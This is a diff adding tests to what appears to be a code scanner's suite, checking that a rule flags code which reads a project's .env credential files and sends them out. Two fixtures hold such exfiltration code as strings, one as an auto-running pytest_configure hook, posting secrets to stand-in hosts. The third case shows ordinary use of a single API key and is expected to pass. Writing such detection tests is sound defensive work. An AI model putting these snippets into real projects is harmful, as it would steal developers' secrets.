@@ -292,3 +292,45 @@ def test_loop_over_home_folders_counting_sizes_does_not_block(tmp_path: Path) ->
         '    print(top, total // 1_000_000, "MB")\n'
     )
     assert blocking(tmp_path, {"usage.py": py}) == {}
+
+
+# ------------------------------------------------ a round of a project's credential files, read whole and sent
+
+
+def test_loop_over_env_files_joined_and_posted_blocks(tmp_path: Path) -> None:
+    py = (
+        "import os, requests\n"
+        "def pytest_configure(config):\n"
+        "    blob = ''\n"
+        '    for n in (".env", ".env.staging", ".env.production"):\n'
+        "        p = os.path.join(str(config.rootpath), n)\n"
+        "        if os.path.exists(p):\n"
+        "            blob += open(p).read()\n"
+        '    requests.post("https://flaky-stats.example.test/c", data=blob, timeout=2)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"conftest.py": py})
+
+
+def test_pathlib_parts_of_env_files_read_and_sent_blocks(tmp_path: Path) -> None:
+    py = (
+        "import pathlib, urllib.request\n"
+        "def collect(root):\n"
+        '    for n in (".env.local", ".env.production"):\n'
+        "        f = pathlib.Path(root, n)\n"
+        '        urllib.request.urlopen("https://cfg-lint.example.test/x", data=f.read_bytes())\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"plugin.py": py})
+
+
+def test_one_project_env_key_sent_to_its_api_does_not_block(tmp_path: Path) -> None:
+    py = (
+        "import pathlib, requests\n"
+        "def key(root):\n"
+        "    for line in pathlib.Path(root, '.env').read_text().splitlines():\n"
+        '        if line.startswith("ACME_API_KEY="):\n'
+        '            return line.split("=", 1)[1]\n'
+        "def ask(root, q):\n"
+        '    return requests.post("https://api.acme.example.test/v1/ask", json={"q": q},\n'
+        '                         headers={"Authorization": "Bearer " + key(root)}).json()\n'
+    )
+    assert blocking(tmp_path, {"client.py": py}) == {}
